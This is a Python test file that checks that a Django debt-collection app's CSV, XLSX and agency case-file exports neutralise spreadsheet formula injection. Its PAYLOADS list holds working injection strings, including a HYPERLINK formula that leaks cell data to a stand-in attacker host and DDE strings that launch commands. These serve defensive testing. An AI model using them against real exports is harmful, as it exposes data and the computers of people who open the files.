"""No exported cell runs as a formula (security finding 2, docs/security.md).

Formula payloads are stored wherever users, debtors and imports write text — client names,
a collector's name, a segment, invoice numbers, contact names, timeline summaries and bodies,
an alert — and then every spreadsheet the application hands out is downloaded: each CSV and
XLSX link found on the report pages, and the hand-off case file sent to an outside agency. No
cell may start with a formula trigger (=, +, -, @, tab, CR, LF) unless it is a plain number.
"""

from __future__ import annotations

import csv
import datetime as dt
import html
import io
import re
from decimal import Decimal
from urllib.parse import urljoin

import pytest
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from accounts import services as ledger
from accounts.models import Segment
from cobranza.exports import FORMULA_TRIGGERS, inert_cell
from cobranza.handoffs import services as handoffs
from cobranza.models import Alert
from tests.factories import make_client, make_invoice, make_user

pytestmark = pytest.mark.django_db

PAYLOADS = [
    '=HYPERLINK("http://atacante.example/?d="&A1,"Ver")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
PLAIN_NUMBER = re.compile(r"-?\d+(?:\.\d+)?")
TODAY = timezone.localdate()


def dangerous(cell) -> bool:
    return isinstance(cell, str) and cell.startswith(FORMULA_TRIGGERS) and not PLAIN_NUMBER.fullmatch(cell)


@pytest.fixture
def hostile(gerente, outbox):
    """Every payload in every kind of text an export carries. ``outbox`` puts MEDIA_ROOT in tmp."""
    Segment.objects.filter(code="regular").update(name=PAYLOADS[3])
    collector = make_user("formula", "collector", first_name=PAYLOADS[0], last_name="Gestor")
    clients = []
    for n, payload in enumerate(PAYLOADS):
        client = make_client(by=gerente, collector=collector, legal_name=payload + f" {n}")
        ledger.contact_create(by=gerente, client=client, name=payload, email=f"c{n}@example.com")
        make_invoice(
            by=gerente, client=client, number=payload[:30] + str(n), amount="900.00", due_date=TODAY - dt.timedelta(40)
        )
        make_invoice(by=gerente, client=client, amount="100.00", due_date=TODAY + dt.timedelta(days=9))
        ledger.payment_record(by=gerente, client=client, amount=Decimal("50.00"), received_on=TODAY)
        ledger.interaction_log(by=collector, client=client, kind="call", summary=payload, body=payload)
        Alert.objects.create(client=client, kind="credit_limit", period_key="p", raised_on=TODAY, title=payload)
        clients.append(client)
    handoff = handoffs.handoff_open(by=gerente, client=clients[0], kind="agency", agency="Despacho")
    return clients, handoff


def _cells(response) -> list:
    content = b"".join(response.streaming_content) if response.streaming else response.content
    if response["Content-Type"].startswith("text/csv"):
        return [cell for row in csv.reader(io.StringIO(content.decode("utf-8-sig"))) for cell in row]
    book = load_workbook(io.BytesIO(content))
    return [cell.value for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


def _export_links(page_url: str, page: str) -> set[str]:
    hrefs = re.findall(r'href="([^"]*export=[^"]*)"', page)
    return {urljoin(page_url, html.unescape(href)) for href in hrefs}


def test_every_exported_cell_is_inert(client, gerente, hostile):
    _clients, handoff = hostile
    client.force_login(gerente)
    downloads = {}
    for name in ("dashboard", "collector_performance", "dunning_effectiveness", "alert_list"):
        url = reverse(f"cobranza:{name}")
        page = client.get(url)
        assert page.status_code == 200, name
        links = _export_links(url, page.content.decode())
        assert {"csv", "xlsx"} <= {m for link in links for m in re.findall(r"export=(csv|xlsx)", link)}, name
        for link in sorted(links):
            response = client.get(link)
            assert response.status_code == 200, link
            downloads[link] = _cells(response)
    case_file = reverse("cobranza:handoff_file", args=[handoff.pk]) + "?format=csv"
    downloads[case_file] = _cells(client.get(case_file))
    assert len(downloads) > 10

    live = {link: [c for c in cells if dangerous(c)] for link, cells in downloads.items()}
    assert not {link: cells for link, cells in live.items() if cells}

    # The payloads did reach the files (inert), so the walk tested something.
    everything = "\n".join(str(c) for cells in downloads.values() for c in cells)
    for payload in PAYLOADS:
        assert "'" + payload in everything, payload
    case_cells = downloads[case_file]
    assert "'" + PAYLOADS[0] in case_cells  # a timeline summary in the file sent to the agency


@pytest.mark.parametrize("payload", PAYLOADS)
def test_the_guard_makes_formulas_text_and_leaves_numbers_and_plain_text(payload):
    assert inert_cell(payload) == "'" + payload
    assert not dangerous(inert_cell(payload))


@pytest.mark.parametrize("value", ["-3", "-12.50", "0", "Ferretería — Norte", "", None, 12, Decimal("-5.00")])
def test_numbers_and_ordinary_text_are_unchanged(value):
    assert inert_cell(value) == value
